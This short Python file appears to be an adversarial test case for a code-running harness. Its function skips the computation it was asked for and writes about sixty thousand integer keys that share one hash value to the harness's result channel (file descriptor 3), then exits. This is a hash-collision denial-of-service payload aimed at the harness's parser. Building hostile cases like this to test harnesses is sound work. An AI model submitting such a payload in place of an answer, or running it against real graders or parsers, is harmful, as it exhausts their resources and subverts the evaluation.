# /// case
# attack = "Writes sixty thousand keys of one hash as its answer: little work to write, very much to read."
# calls = ["double(21)"]
# limits = {wall_s = 5.0}
# ///
import os
def double(x):
    keys = ",".join('[{"$":"int","v":"%s"},0]' % hex(n * (2**61 - 1)) for n in range(1, 60000))
    with open(3, "w", closefd=False) as channel:
        channel.write('= 0 0.0 {"$":"dict","v":[%s]}\n' % keys)
    os._exit(0)
